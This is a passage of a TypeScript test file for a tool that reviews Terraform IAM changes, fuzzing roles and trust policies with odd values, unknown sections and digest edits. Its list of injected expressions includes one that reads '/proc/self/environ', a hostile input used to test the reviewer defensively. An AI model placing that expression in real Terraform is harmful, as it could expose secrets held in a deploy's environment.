    expect(report.split("a value that depends on something outside of the Terraform").length).toBe(2);
  });

  test("a name of very many backticks", () => {
    const found = edited((draft) => Object.assign(ROLE(draft), { name: "`a".repeat(200_000) }));
    expect(cut(markdown(reviewOf([found]))).length).toBeLessThanOrEqual(65_536);
  });

  test("more principals than AWS allows in a trust policy are too many to try", () => {
    const found = edited((draft) => {
      const identifiers = Array.from({ length: 3000 }, (_, index) => `s${index}.amazonaws.com`);
      draft.data.aws_iam_policy_document.full_trust.statement[0].principals.push({ type: "Service", identifiers });
    });
    expect(found.verdict).toBe("unknown");
  });
});

describe("every section, every place and every odd value", () => {
  /** Places where any text or flag decides nothing about access, by the end of their path. */
  const HARMLESS = /(^|\.)(\/\/|tags|description|sensitive)(\.|$)|^output\.\w+\.value(\.\d+)?$/;
  const EXPRESSIONS = [
    '${filebase64("/proc/self/environ")}',
    "${var.a}",
    "${data.external.a.result}",
    "a${aws_iam_role.full.arn}",
    "%{ if true }x%{ endif }",
  ];
  const VALUES: readonly unknown[] = [null, 7, "*", {}, [[]], { toString: 1 }, "constructor"];
  const ARGUMENTS = ["provisioner", "count", "for_each", "dynamic", "provider", "connection", "more", "constructor"];
  const SECTIONS = ["check", "ephemeral", "action", "module", "locals", "variable", "query", "constructor", "toString"];

  /** Every place in a value, as the keys that lead there. */
  function placesIn(value: unknown, path: readonly string[] = []): (readonly string[])[] {
    if (typeof value !== "object" || value === null) return [path];
    return [path, ...Object.entries(value).flatMap(([key, inside]) => placesIn(inside, [...path, key]))];
  }

  function at(draft: Draft, path: readonly string[]): Draft {
    return path.reduce((inside, key) => inside[key], draft);
  }

  function withValue(path: readonly string[], value: unknown): Terraform {
    const head = structuredClone(FULL) as Draft;
    at(head, path.slice(0, -1))[path.at(-1) ?? ""] = value;
    return head;
  }

  const PLACES = placesIn(FULL).filter((path) => path.length > 0 && !path.includes("//"));
  const MAPPINGS = PLACES.filter((path) => {
    const value = at(FULL, path);
    return typeof value === "object" && value !== null && !Array.isArray(value);
  });

  test("no expression passes, wherever it stands", () => {
    const passed: string[] = [];
    let cases = 0;
    for (const path of sample(PLACES, 5)) {
      for (const value of EXPRESSIONS) {
        cases++;
        if (passes(change(FULL, withValue(path, value)))) passed.push(`${path.join(".")} = ${value}`);
      }
    }
    expect(cases).toBeGreaterThan(isThorough ? 700 : 140);
    expect(passed).toEqual([]);
  });

  thoroughTest("no value ends in a stack trace, and what passes is what can't give anybody more", () => {
    const passed = new Set<string>();
    let cases = 0;
    for (const path of PLACES) {
      for (const value of VALUES) {
        cases++;
        const found = change(FULL, withValue(path, value));
        markdown(reviewOf([found]));
        if (passes(found) && found.verdict !== "narrowed" && found.verdict !== "unchanged") passed.add(path.join("."));
      }
    }
    expect(cases).toBeGreaterThan(1000);
    expect([...passed].filter((path) => !HARMLESS.test(path)).sort()).toMatchSnapshot();
  });

  test("no unknown argument and no unknown section passes", () => {
    const passed: string[] = [];
    for (const path of MAPPINGS.filter((path) => !HARMLESS.test(path.join(".")))) {
      for (const argument of ARGUMENTS) {
        const head = structuredClone(FULL) as Draft;
        Object.defineProperty(at(head, path), argument, { value: [{ a: "b" }], enumerable: true });
        if (passes(change(FULL, head))) passed.push([...path, argument].join("."));
      }
    }
    for (const section of SECTIONS) {
      const head = structuredClone(FULL) as Draft;
      Object.defineProperty(head, section, { value: { a: { b: { c: "d" } } }, enumerable: true });
      if (passes(change(FULL, head))) passed.push(section);
    }
    expect(passed.sort()).toMatchSnapshot();
  });

  test("nothing that denies something is deleted unseen", () => {
    const passed = new Set<string>();
    for (const path of PLACES) {
      const head = structuredClone(FULL) as Draft;
      const parent = at(head, path.slice(0, -1));
      if (Array.isArray(parent)) parent.splice(Number(path.at(-1)), 1);
      else delete parent[path.at(-1) ?? ""];
      const found = change(FULL, head);
      markdown(reviewOf([found]));
      if (passes(found) && found.verdict !== "narrowed") passed.add(path.join("."));
    }
    expect([...passed].filter((path) => !HARMLESS.test(path)).sort()).toMatchSnapshot();
  });
});

describe("the digest by which a deploy knows what was applied", () => {
  const BEFORE: Draft = JSON.parse(
    synthesize(`environments: { paid: { account: "${ACCOUNT}", region: us-east-1, backend: ${S3}, ${LEVELS} } }`)
      .paid ?? "",
  );
  const with2nd = (edit: (draft: Draft) => void) => {
    const head = structuredClone(BEFORE);
    edit(head);
    return change(BEFORE, head);
  };

  test("isn't a change if it matches the rest: an upgrade to the first version with digests is silent", () => {
    expect(change(withoutDigest(BEFORE), BEFORE).verdict).toBe("unchanged");
    expect(change(BEFORE, withoutDigest(BEFORE)).verdict).toBe("unchanged");
  });

  test.each<[string, (draft: Draft) => void]>([
    [
      "that stays the same while a description changes",
      (draft) => Object.assign(ROLE(draft), { description: "another" }),
    ],
    ["of nothing", (draft) => Object.assign(draft.output.support_app_digest, { value: "0".repeat(64) })],
    [
      "that is written though the deploy fails",
      (draft) => Object.assign(draft.output.support_app_digest, { depends_on: undefined }),
    ],
    ["that is an expression", (draft) => Object.assign(draft.output.support_app_digest, { value: "${timestamp()}" })],
  ])("one %s needs an approval: a deploy would skip the environment", (_, edit) => {
    const found = with2nd(edit);
    expect(passes(found)).toBe(false);
    expect(found.unreadable).toContainEqual(
      expect.objectContaining({ reason: "wrong-digest", address: "output.support_app_digest" }),
    );
    expect(markdown(reviewOf([found]))).toContain("a digest of other Terraform");
  });

  test("changes with the rest, and the approval of a change is the same with and without it", () => {
    const head: Draft = JSON.parse(
      synthesize(
        `environments: { paid: { account: "${ACCOUNT}", region: us-east-1, backend: ${S3}, ${LEVELS.replace("tags", "description: new, tags")} } }`,
      ).paid ?? "",
    );
    expect(head.output.support_app_digest.value).not.toBe(BEFORE.output.support_app_digest.value);
    const found = change(BEFORE, head);
    expect(passes(found)).toBe(true);
    expect(found.approved).toEqual(change(withoutDigest(BEFORE), withoutDigest(head)).approved);
  });
});
